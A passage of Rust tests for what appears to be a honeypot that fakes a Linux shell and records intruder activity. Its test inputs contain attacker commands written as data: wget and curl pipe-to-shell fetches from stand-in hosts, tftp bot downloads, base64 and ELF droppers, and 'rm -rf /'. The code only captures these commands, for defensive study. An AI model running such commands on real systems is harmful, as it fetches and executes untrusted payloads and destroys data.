                name: name.into(),
                ip: "127.42.0.9".parse().unwrap(),
                hostname: "files-ops-07".into(),
                os_family: decnet_core::persona::OsFamily::Linux,
                distro: distro(slug).unwrap(),
                windows: None,
                archetype: None,
                services: vec![],
            },
            seed: decnet_core::seed::InstanceSeed::derive_for(b"k", name),
            data_dir: std::path::PathBuf::from("/nonexistent"),
            limits: decnet_core::config::model::Limits::DEFAULT,
            bait: Default::default(),
            prefix: 24,
        }
    }

    #[test]
    fn the_builder_gives_one_machine_per_decky_whatever_service_asks() {
        let rt = runtime("d1", "rocky9");
        let a = Persona::for_decky(&rt, None, None, vec!["root".into()]);
        let b = Persona::for_decky(&rt, None, None, vec!["root".into()]);
        assert_eq!(
            (a.cpus, a.mem_kb, a.uptime_days, a.mac, a.seed),
            (b.cpus, b.mem_kb, b.uptime_days, b.mac, b.seed)
        );
        assert_eq!(a.hostname, "files-ops-07");
        assert_eq!(a.kernel_release, "5.14.0-362.8.1.el9_3.x86_64");
        assert_eq!(a.ip, rt.config.ip);
        assert_eq!(&a.mac[..3], &[0x52, 0x54, 0x00]);
        let o = Persona::for_decky(&rt, Some("db01"), Some("5.14.0-1"), vec![]);
        assert_eq!(
            (o.hostname.as_str(), o.kernel_release.as_str()),
            ("db01", "5.14.0-1")
        );
        let macs: std::collections::HashSet<[u8; 6]> = (0..10)
            .map(|i| {
                Persona::for_decky(&runtime(&format!("d{i}"), "debian"), None, None, vec![]).mac
            })
            .collect();
        assert!(macs.len() > 5, "{macs:?}");
    }

    // Regression: `ip a` showed /24 whatever network the fleet was on.
    #[test]
    fn network_output_shows_the_decky_prefix_and_its_gateway() {
        let mut rt = runtime("d1", "debian");
        rt.config.ip = "10.20.37.9".parse().unwrap();
        rt.prefix = 20;
        let mut sh = Shell::new(Persona::for_decky(&rt, None, None, vec![]), "root");
        let (out, _, _) = sh.exec("ip -4 addr show eth0; ip route");
        let out = String::from_utf8(out).unwrap();
        assert!(out.contains("inet 10.20.37.9/20 brd 10.20.47.255"), "{out}");
        assert!(out.contains("default via 10.20.32.1"), "{out}");
    }

    // The bait world's people have homes, its files are in them, and the last
    // login came from another decky of the fleet.
    #[test]
    fn the_bait_world_lives_in_the_shell() {
        let mut rt = runtime("d1", "debian");
        rt.config.services = vec![decnet_core::config::model::ServiceConfig {
            name: "ssh".into(),
            listeners: vec![],
            persona: Default::default(),
        }];
        let mut other = rt.config.clone();
        other.name = "d2".into();
        other.ip = "127.42.0.99".parse().unwrap();
        let world =
            decnet_core::bait::World::derive(b"k", &[rt.config.clone(), other], 1_790_000_000);
        let admin = world
            .people_on("d1")
            .into_iter()
            .find(|p| p.it)
            .unwrap()
            .clone();
        rt.bait = Arc::new(world);
        let p = Persona::for_decky(&rt, None, None, vec![]);
        let (_, from) = p.last_login(1_790_000_000);
        assert_eq!(from, "127.42.0.99");
        let mut sh = Shell::new(p, "root");
        let (out, _, _) = sh.exec(&format!(
            "grep {} /etc/passwd; cat /home/{}/.bash_history",
            admin.username, admin.username
        ));
        let out = String::from_utf8(out).unwrap();
        assert!(
            out.contains(&format!(
                "{}:x:1000:1000:{},,,:/home/{}:/bin/bash",
                admin.username, admin.full_name, admin.username
            )),
            "{out}"
        );
        assert!(out.contains("sshpass -p '"), "{out}");
        let (out, _, _) = sh.exec(&format!(
            "stat -c '%U %a' /home/{}/.bash_history",
            admin.username
        ));
        assert_eq!(
            String::from_utf8(out).unwrap(),
            format!("{} 600\n", admin.username)
        );
    }

    // Regression: every distro's login linked `https://help.<os_id>.com`, and
    // "Last login" was always 26 hours ago from the attacker's own address.
    #[test]
    fn login_banners_are_the_releases_own_motd() {
        let now = chrono::DateTime::parse_from_rfc3339("2024-03-05T12:00:00Z")
            .unwrap()
            .with_timezone(&chrono::Utc);
        let peer: IpAddr = "203.0.113.9".parse().unwrap();
        let banner = |slug: &str| persona(slug).login_banner(peer, now);
        let debian = banner("debian");
        assert!(
            debian.starts_with(
                "Linux web-prod-03 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64\r\n\r\n\
                 The programs included with the Debian GNU/Linux system are free software;\r\n\
                 the exact distribution terms for each program are described in the\r\n\
                 individual files in /usr/share/doc/*/copyright.\r\n\r\n\
                 Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY, to the extent\r\n\
                 permitted by applicable law.\r\n\
                 Last login: "
            ),
            "{debian}"
        );
        assert!(!debian.contains("203.0.113.9"), "{debian}");
        assert!(debian.contains(" from 10.0.0."), "{debian}");
        let ubuntu = banner("ubuntu22");
        assert!(ubuntu.starts_with("Welcome to Ubuntu 22.04.4 LTS (GNU/Linux 5.15.0-91-generic x86_64)\r\n\r\n * Documentation:  https://help.ubuntu.com\r\n"), "{ubuntu}");
        assert!(banner("rocky9")
            .starts_with("Activate the web console with: systemctl enable --now cockpit.socket\r\n\r\nLast login: "));
        assert!(banner("centos7").starts_with("Last login: "));
        let alpine = banner("alpine");
        assert!(alpine.starts_with("Welcome to Alpine!\r\n"), "{alpine}");
        assert!(!alpine.contains("Last login"), "{alpine}");
        for d in decnet_core::persona::DISTROS
            .iter()
            .filter(|d| d.os_id != "ubuntu")
        {
            let b = banner(d.slug);
            assert!(!b.contains("help."), "{}: {b}", d.slug);
            assert!(!b.replace("\r\n", "").contains('\n'), "{}: bare LF", d.slug);
        }
        // Two deckies remember different last logins.
        let mut other = persona("debian");
        other.seed = [9; 32];
        assert_ne!(other.login_banner(peer, now), debian);
    }

    #[test]
    fn prompts_follow_the_distro() {
        let sh = Shell::new(persona("ubuntu22"), "root");
        assert_eq!(sh.banner(), b"root@web-prod-03:~# ");
        let sh = Shell::new(persona("rocky9"), "admin");
        assert_eq!(sh.banner(), b"[admin@web-prod-03 ~]$ ");
    }

    #[test]
    fn line_editing_echoes_erases_and_cancels() {
        let mut sh = Shell::new(persona("ubuntu22"), "root");
        let s = sh.feed(b"pwx\x7fd");
        assert_eq!(s.output, b"pwx\x08 \x08d");
        let s = sh.feed(b"\r");
        assert_eq!(
            String::from_utf8_lossy(&s.output),
            "\r\n/root\r\nroot@web-prod-03:~# "
        );
        assert_eq!(
            s.events,
            vec![ShellEvent::Command {
                command: "pwd".into(),
                cwd: "/root".into(),
                user: "root".into()
            }]
        );
        let s = sh.feed(b"rm -rf /\x03");
        assert!(s.output.ends_with(b"^C\r\nroot@web-prod-03:~# "));
        assert!(s.events.is_empty());
        // Arrow keys are swallowed, not echoed.
        let s = sh.feed(b"\x1b[A\x1b[D");
        assert!(s.output.is_empty());
        let s = sh.feed(b"\x04");
        assert!(s.exit);
        assert_eq!(s.output, b"logout\r\n");
    }

    #[test]
    fn open_quotes_and_compounds_prompt_for_more_as_bash_does() {
        let mut sh = Shell::new(persona("debian"), "root");
        let (out, ev) = run(&mut sh, "echo 'a");
        assert_eq!(out, "echo 'a\r\n> ");
        assert!(ev.is_empty());
        let (out, _) = run(&mut sh, "b'");
        assert_eq!(out, "b'\r\na\r\nb\r\nroot@web-prod-03:~# ");
        run(&mut sh, "for i in 1 2; do");
        let (out, _) = run(&mut sh, "echo $i; done");
        assert!(out.contains("\r\n1\r\n2\r\n"), "{out}");
    }

    #[test]
    fn uname_reports_the_persona_kernel() {
        let mut sh = Shell::new(persona("ubuntu22"), "root");
        let (out, _) = run(&mut sh, "uname -a");
        assert!(
            out.contains("Linux web-prod-03 5.15.0-91-generic #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\r\n"),
            "{out}"
        );
        assert!(run(&mut sh, "uname -r")
            .0
            .contains("\r\n5.15.0-91-generic\r\n"));
        assert!(run(&mut sh, "uname").0.contains("\r\nLinux\r\n"));
        assert!(run(&mut sh, "uname -m").0.contains("\r\nx86_64\r\n"));
        assert!(run(&mut sh, "uname -n").0.contains("\r\nweb-prod-03\r\n"));
        let mut deb = Shell::new(persona("debian"), "root");
        let (out, _, _) = deb.exec("uname -a");
        assert!(String::from_utf8_lossy(&out).ends_with(") x86_64 GNU/Linux\n"));
    }

    #[test]
    fn cat_ls_cd_walk_the_persona_tree() {
        let mut sh = Shell::new(persona("ubuntu22"), "root");
        let (out, _) = run(&mut sh, "cat /etc/os-release");
        assert!(out.contains("PRETTY_NAME=\"Ubuntu 22.04.4 LTS\""), "{out}");
        let (out, _) = run(&mut sh, "cat /proc/version");
        assert!(out.contains("Linux version 5.15.0-91-generic (buildd@"));
        let (out, _) = run(&mut sh, "cat /nope");
        assert!(out.contains("cat: /nope: No such file or directory"));
        let (out, _) = run(&mut sh, "cd /etc");
        assert!(out.ends_with("root@web-prod-03:/etc# "), "{out}");
        let (out, _) = run(&mut sh, "ls");
        assert!(out.contains("passwd") && out.contains("hostname"), "{out}");
        let (out, _) = run(&mut sh, "ls -la /root");
        assert!(
            out.contains(".bash_history") && out.contains("drwx------"),
            "{out}"
        );
        let (out, _) = run(&mut sh, "cd /nowhere");
        assert!(
            out.contains("-bash: cd: /nowhere: No such file or directory"),
            "{out}"
        );
        run(&mut sh, "cd");
        assert_eq!(sh.state().cwd, "/root");
    }

    #[test]
    fn unknown_commands_and_chains() {
        let mut sh = Shell::new(persona("ubuntu22"), "root");
        let (out, ev) = run(&mut sh, "foo --bar");
        assert!(out.contains("\r\nfoo: command not found\r\n"), "{out}");
        assert_eq!(ev.len(), 1);
        let mut deb = Shell::new(persona("debian"), "root");
        let (out, _) = run(&mut deb, "foo --bar");
        assert!(
            out.contains("\r\n-bash: foo: command not found\r\n"),
            "{out}"
        );
        let (out, _) = run(&mut sh, "echo a; echo b && echo c");
        assert!(out.contains("a\r\nb\r\nc\r\n"), "{out}");
        let (out, _) = run(&mut sh, "false && echo no || echo yes");
        assert!(out.contains("yes") && !out.contains("no\r\n"), "{out}");
        let (out, _) = run(&mut sh, "cat /etc/passwd | grep root");
        assert!(!out.contains("daemon"), "{out}");
        let (out, _) = run(&mut sh, "export FOO=bar; echo \"$FOO\" '$FOO'");
        assert!(out.contains("bar $FOO\r\n"), "{out}");
    }

    // Regression: pipes dropped output, `>` was printed literally, `$((1+2))` echoed.
    #[test]
    fn pipes_redirections_and_arithmetic_work() {
        let mut sh = Shell::new(persona("debian"), "root");
        let (out, _, _) = sh.exec("cat /proc/cpuinfo | grep name | wc -l");
        assert_eq!(out, b"2\n");
        for cpus in [1, 4, 8] {
            let mut p = persona("rocky9");
            p.cpus = cpus;
            let (out, _, _) = Shell::new(p, "root").exec("cat /proc/cpuinfo | grep name | wc -l");
            assert_eq!(out, format!("{cpus}\n").into_bytes());
        }
        let (out, _, _) = sh.exec("echo hi > /tmp/x; cat /tmp/x; echo $((1+2))");
        assert_eq!(out, b"hi\n3\n");
        let (out, _, st) = sh.exec("ls /nope 2>/dev/null || echo gone");
        assert_eq!((out.as_slice(), st), (&b"gone\n"[..], 0));
        let (out, _, _) = sh.exec("touch /tmp/t && ls -l /tmp/t | cut -c1-10");
        assert_eq!(out, b"-rw-r--r--\n");
        let (out, _, _) = sh.exec("ls -ld /tmp /root | cut -c1-10");
        assert_eq!(out, b"drwxrwxrwt\ndrwx------\n");
    }

    #[test]
    fn downloads_are_captured_never_fetched() {
        let mut sh = Shell::new(persona("ubuntu22"), "root");
        let (out, ev) = run(
            &mut sh,
            "cd /tmp; wget http://203.0.113.7/x.sh -O- | sh; curl -fsSL https://evil.example/a",
        );
        assert!(
            out.contains("Resolving 203.0.113.7") || out.contains("Connecting to 203.0.113.7"),
            "{out}"
        );
        let dl: Vec<_> = ev
            .iter()
            .filter_map(|e| match e {
                ShellEvent::Download { url, tool, .. } => Some((url.as_str(), tool.as_str())),
                _ => None,
            })
            .collect();
        assert_eq!(
            dl,
            vec![
                ("http://203.0.113.7/x.sh", "wget"),
                ("https://evil.example/a", "curl")
            ]
        );
        let (_, ev) = run(
            &mut sh,
            "tftp -g -r bot 198.51.100.2; ftpget 198.51.100.3 bot bot",
        );
        assert_eq!(
            ev.iter()
                .filter(|e| matches!(e, ShellEvent::Download { .. }))
                .count(),
            2
        );
    }

    #[test]
    fn dropped_payloads_are_captured_once() {
        let mut sh = Shell::new(persona("debian"), "root");
        let (_, ev, _) = sh.exec(
            "echo IyEvYmluL3NoCmVjaG8gcHduZWQK | base64 -d > /tmp/.x; chmod +x /tmp/.x; /tmp/.x",
        );
        let up: Vec<_> = ev
            .iter()
            .filter_map(|e| match e {
                ShellEvent::Upload {
                    path, data, sha256, ..
                } => Some((path.clone(), data.clone(), sha256.clone())),
                _ => None,
            })
            .collect();
        assert_eq!(up.len(), 1, "{ev:?}");
        assert_eq!(up[0].0, "/tmp/.x");
        assert_eq!(up[0].1, b"#!/bin/sh\necho pwned\n");
        assert_eq!(
            up[0].2,
            hex::encode(sha2::Sha256::digest(b"#!/bin/sh\necho pwned\n"))
        );
        assert!(ev
            .iter()
            .any(|e| matches!(e, ShellEvent::Exec { path, .. } if path == "/tmp/.x")));
        let (out, ev, _) = sh.exec("cat /tmp/.x > /tmp/.y; /tmp/.x");
        assert_eq!(out, b"pwned\n");
        assert!(
            !ev.iter().any(|e| matches!(e, ShellEvent::Upload { .. })),
            "same bytes, reported once"
        );
        let (out, _, st) = sh.exec("sh /tmp/.y");
        assert_eq!((out.as_slice(), st), (&b"pwned\n"[..], 0));
        let (_, ev, _) = sh.exec("echo hello > /tmp/plain");
        assert!(
            !ev.iter().any(|e| matches!(e, ShellEvent::Upload { .. })),
            "plain text is no payload"
        );
    }

    fn uploads(ev: &[ShellEvent]) -> Vec<(String, Vec<u8>, u64)> {
        ev.iter()
            .filter_map(|e| match e {
                ShellEvent::Upload {
                    path, data, size, ..
                } => Some((path.clone(), data.clone(), *size)),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn elf_headers_written_by_printf_and_echo_e_are_captured_byte_exact() {
        let mut sh = Shell::new(persona("debian"), "root");
        let (_, ev, _) = sh.exec(
            r"cd /tmp; printf '\x7f\x45\x4c\x46\x02\x01\x01\x00\x00' > .p; echo -e '\x7fELF\x01\x01\x01\x00bot' > /dev/shm/.e",
        );
        assert_eq!(
            uploads(&ev),
            vec![
                (
                    "/dev/shm/.e".to_owned(),
                    b"\x7fELF\x01\x01\x01\x00bot\n".to_vec(),
                    12
                ),
                (
                    "/tmp/.p".to_owned(),
                    b"\x7fELF\x02\x01\x01\x00\x00".to_vec(),
                    9
                ),
            ]
        );
        // Appending makes new content, captured again; the old bytes stay captured.
        let (_, ev, _) = sh.exec(r"printf '\x03\x00' >> /tmp/.p");
        assert_eq!(
            uploads(&ev),
            vec![(
                "/tmp/.p".to_owned(),
                b"\x7fELF\x02\x01\x01\x00\x00\x03\x00".to_vec(),
                11
            )]
        );
    }

    #[test]
    fn base64_and_here_document_droppers_are_captured() {
        let mut sh = Shell::new(persona("debian"), "root");
        // "\x7fELF\x02\x01\x01\x00" in base64.
        let (_, ev, _) = sh.exec("echo f0VMRgIBAQA= | base64 -d > /tmp/b");
        assert_eq!(
            uploads(&ev),
            vec![("/tmp/b".to_owned(), b"\x7fELF\x02\x01\x01\x00".to_vec(), 8)]
        );
        let (_, ev, _) =
            sh.exec("cat > /tmp/h.sh <<'EOF'\n#!/bin/sh\nwget -q http://198.51.100.7/x\nEOF\n");
        assert_eq!(
            uploads(&ev),
            vec![(
                "/tmp/h.sh".to_owned(),
                b"#!/bin/sh\nwget -q http://198.51.100.7/x\n".to_vec(),
                40
            )]
        );
    }

    #[test]
    fn a_file_made_executable_is_captured_when_chmod_runs() {
        let mut sh = Shell::new(persona("debian"), "root");
        let (_, ev, _) = sh.exec("echo 'id; uname -a' > /tmp/run");
        assert!(uploads(&ev).is_empty(), "plain text is no payload yet");
        let (_, ev, _) = sh.exec("chmod +x /tmp/run");
        assert_eq!(
            uploads(&ev),
            vec![("/tmp/run".to_owned(), b"id; uname -a\n".to_vec(), 13)]
        );
    }

    #[test]
    fn large_text_is_captured_and_shipped_files_are_not() {
        let mut sh = Shell::new(persona("debian"), "root");
        let (_, ev, _) = sh.exec("seq 1 3000 > /tmp/small");
        assert!(uploads(&ev).is_empty(), "{ev:?}");
        let (_, ev, _) = sh.exec("seq 1 5000 > /tmp/big");
        let up = uploads(&ev);
        assert_eq!(up.len(), 1, "{ev:?}");
        assert!(up[0].2 >= cmd::PAYLOAD_SIZE as u64, "{}", up[0].2);
        // chmod of what the distro ships, or a copy of a program, is no capture.
        let (_, ev, _) = sh.exec("chmod 755 /etc/hostname; touch /etc/passwd; cp /bin/ls /tmp/ls");
        assert!(uploads(&ev).is_empty(), "{ev:?}");
    }

    #[test]
    fn files_uploaded_on_the_connection_are_in_the_shell_and_not_reported_again() {
        let mut sh = Shell::new(persona("debian"), "root");
        sh.receive("/tmp/x.bin", b"\x7fELF\x02uploaded");
        sh.receive("rel.sh", b"#!/bin/sh\n");
        sh.receive("/nonexistent/dir/f", b"lost");
        let (out, ev, _) = sh.exec("ls /tmp; cat /root/rel.sh");
        assert_eq!(
            out,
            b"x.bin\n#!/bin/sh\n",
            "{}",
            String::from_utf8_lossy(&out)
        );
        assert!(uploads(&ev).is_empty(), "{ev:?}");
        let (_, ev, _) = sh.exec("chmod +x /tmp/x.bin");
        assert_eq!(
            uploads(&ev).len(),
            1,
            "changed mode on an upload is captured by the shell"
        );
    }

    #[test]
    fn exec_returns_plain_newlines_and_status() {
        let mut sh = Shell::new(persona("ubuntu22"), "root");
        let (out, ev, st) = sh.exec("id");
        assert_eq!(out, b"uid=0(root) gid=0(root) groups=0(root)\n");
        assert_eq!(ev.len(), 1);
        assert_eq!(st, 0);
        let (out, _, st) = sh.exec("nmapx");
        assert_eq!(st, 127);
        assert_eq!(out, b"bash: line 1: nmapx: command not found\n");
        for c in [
            "whoami", "hostname", "ps aux", "w", "uptime", "ifconfig", "ip a", "free -m", "df -h",
            "history", "which ls", "nproc", "sudo -l", "exit",
        ] {
            let (out, _, _) = sh.exec(c);
            assert!(!out.is_empty() || c == "exit", "{c} printed nothing");
        }
    }

    #[test]
    fn writes_stay_within_the_session() {
        let p = persona("debian");
        let mut a = State::new(p.clone(), "root");
        let mut b = State::new(p, "root");
        a.run_as("mkdir -p /opt/x && echo 1 > /opt/x/f", Dialect::Bash);
        let out = a.run_as("cat /opt/x/f", Dialect::Bash).output;
        assert_eq!(out, b"1\n");
        let out = b.run_as("cat /opt/x/f", Dialect::Bash).output;
        assert_eq!(out, b"cat: /opt/x/f: No such file or directory\n");
    }

    #[test]
    fn caps_end_the_command_not_the_session() {
        let mut sh = Shell::new(persona("debian"), "root");
        let (out, _, _) = sh.exec("while true; do :; done; echo after");
        assert_eq!(
            out,
            b"bash: fork: retry: Resource temporarily unavailable\n"
        );
        let (out, _, _) = sh.exec("f() { f; }; f");
        assert!(
            String::from_utf8_lossy(&out).contains("maximum function nesting level exceeded"),
            "{out:?}"
        );
        let (out, _, _) = sh.exec("echo still here");
        assert_eq!(out, b"still here\n");
        let (out, _, _) = sh.exec("yes | head -2");
        assert_eq!(out, b"y\ny\n");
    }

    fn exec(sh: &mut Shell, line: &str) -> (String, u32) {
        let (out, _, st) = sh.exec(line);
        (String::from_utf8_lossy(&out).into_owned(), st)
    }

    // Regression: wc, base64, env, systemctl, apt-get, crontab, netstat, ss,
    // lscpu, busybox, perl, scp said "command not found" while `which python3`
    // claimed it existed.
    #[test]
    fn the_intruder_command_set_answers_from_the_persona() {
        let mut p = persona("debian");
        p.services = vec!["ssh".into(), "http".into(), "redis".into()];
        let mut sh = Shell::new(p, "root");
        for c in [
            "wc -l /etc/passwd",
            "echo aGk= | base64 -d",
            "env",
            "printenv HOME",
            "systemctl status ssh",
            "service --status-all",
            "apt-get install -y x",
            "crontab -l",
            "netstat -tlnp",
            "ss -tlnp",
            "lscpu",
            "free -h",
            "df",
            "mount",
            "last",
            "lastlog",
            "w",
            "who",
            "hostnamectl",
            "busybox",
            "chattr +i /tmp",
            "passwd",
            "sudo -l",
            "su admin",
            "groups",
            "nohup true",
            "kill -9 1",
            "pkill sshd",
            "history",
            "perl -v",
            "python3 --version",
            "scp",
            "md5sum /etc/hostname",
            "sha256sum /etc/hostname",
        ] {
            let (out, _) = exec(&mut sh, c);
            assert!(
                !out.is_empty()
                    || c.starts_with("chattr")
                    || c.starts_with("pkill")
                    || c.starts_with("kill")
                    || c.starts_with("nohup")
                    || c.starts_with("su "),
                "{c} printed nothing"
            );
            assert!(!out.contains("command not found"), "{c}: {out}");
        }
        let (ss, _) = exec(&mut sh, "ss -tlnp");
        assert!(
            ss.contains("0.0.0.0:22") && ss.contains("0.0.0.0:80") && ss.contains(":6379"),
            "{ss}"
        );
        let (ps, _) = exec(&mut sh, "ps aux");
        assert!(
            ps.contains("nginx: master process")
                && ps.contains("redis-server")
                && !ps.contains("apache2"),
            "{ps}"
        );
        assert_eq!(
            exec(&mut sh, "crontab -l"),
            ("no crontab for root\n".into(), 1)
        );
        assert_eq!(
            exec(&mut sh, "busybox ECCHI"),
            ("ECCHI: applet not found\n".into(), 127)
        );
        assert_eq!(
            exec(&mut sh, "which python3 perl"),
            ("/usr/bin/python3\n/usr/bin/perl\n".into(), 0)
        );
        assert_eq!(
            exec(&mut sh, "type python3"),
            ("python3 is /usr/bin/python3\n".into(), 0)
        );
        let mut alpine = Shell::new(persona("alpine"), "root");
        assert_eq!(exec(&mut alpine, "which python3 perl").1, 1);
        assert!(exec(&mut alpine, "python3 -c 'print(1)'")
            .0
            .contains("not found"));
        // apache boxes list apache, not nginx workers.
        let mut rocky = persona("rocky9");
        rocky.services = vec!["http".into()];
        let (ps, _) = exec(&mut Shell::new(rocky, "root"), "ps aux");
        assert!(
            ps.contains("/usr/sbin/httpd -DFOREGROUND") && !ps.contains("nginx"),
            "{ps}"
        );
    }

    #[test]
    fn the_current_session_shows_the_peer() {
        let peer: std::net::SocketAddr = "198.51.100.23:40112".parse().unwrap();
        let mut sh = Shell::new(persona("debian"), "root").with_peer(peer);
        let (w, _) = exec(&mut sh, "w | tail -1; who; echo $SSH_CLIENT");
        assert!(w.contains("198.51.100.23"), "{w}");
        let (env, _) = exec(&mut sh, "env | grep SSH_CLIENT");
        assert_eq!(env, "SSH_CLIENT=198.51.100.23 40112 22\n");
    }

    #[test]
    fn two_deckies_do_not_print_the_same_machine() {
        let mut a = persona("debian");
        let mut b = persona("debian");
        a.seed = [1; 32];
        b.seed = [2; 32];
        let (la, _) = exec(
            &mut Shell::new(a, "root"),
            "ls -la --time-style=x /etc; stat -c %Y /etc/passwd /root/.bash_history",
        );
        let (lb, _) = exec(
            &mut Shell::new(b, "root"),
            "ls -la --time-style=x /etc; stat -c %Y /etc/passwd /root/.bash_history",
        );
        assert_ne!(la, lb);
    }

    proptest! {
        #[test]
        fn the_shell_survives_any_input(input in proptest::collection::vec(any::<u8>(), 0..2048)) {
            let mut sh = Shell::new(persona("debian"), "root");
            let _ = sh.feed(&input);
            let mut st = State::new(persona("rocky9"), "admin");
            let _ = st.run_line(&String::from_utf8_lossy(&input));
        }

        #[test]
        fn shell_syntax_soup_never_panics(input in "[a-z $(){};|&<>'\"`\\\\=*0-9\n#!-]{0,300}") {
            let mut st = State::new(persona("debian"), "root");
            let _ = st.run_as(&input, Dialect::Bash);
            let _ = st.run_line(&input);
        }

        #[test]
        fn the_line_stays_bounded(input in proptest::collection::vec(0x20u8..0x7f, 0..10000)) {
            let mut sh = Shell::new(persona("debian"), "root");
            let _ = sh.feed(&input);
            prop_assert!(sh.line.len() <= MAX_LINE);
        }
    }
}
